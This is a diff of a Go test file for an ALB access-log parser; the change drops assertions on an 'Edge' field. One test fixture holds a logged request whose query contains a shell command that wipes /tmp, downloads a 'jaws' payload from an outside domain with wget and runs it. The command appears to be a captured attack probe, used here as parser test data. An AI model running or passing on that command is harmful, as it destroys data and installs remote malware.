@@ -16,7 +16,7 @@ func TestALBElastic(t *testing.T) {
 	space := recs[1]
 	if space.Method != "GET" || space.Path != "/shell" || space.Host != "127.0.0.1" || space.Proto != "HTTP/1.1" ||
 		space.RawQuery != "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" || space.UA != "Hello, world" ||
-		space.Status != 301 || space.Client.String() != "67.43.156.20" || space.Edge != "redirect" {
+		space.Status != 301 || space.Client.String() != "67.43.156.20" {
 		t.Errorf("SpaceInUri row %+v", space)
 	}
 	bad := recs[2]
@@ -58,7 +58,7 @@ func TestALBLines(t *testing.T) {
 			continue
 		}
 		got := recs[0]
-		if got.Client.String() != tt.client || got.Path != tt.path || got.Host != tt.host || got.Status != tt.status || got.RequestID != "Root=1-abc" || got.Edge != "forward" {
+		if got.Client.String() != tt.client || got.Path != tt.path || got.Host != tt.host || got.Status != tt.status || got.RequestID != "Root=1-abc" {
 			t.Errorf("%s: %+v", tt.name, got)
 		}
 	}
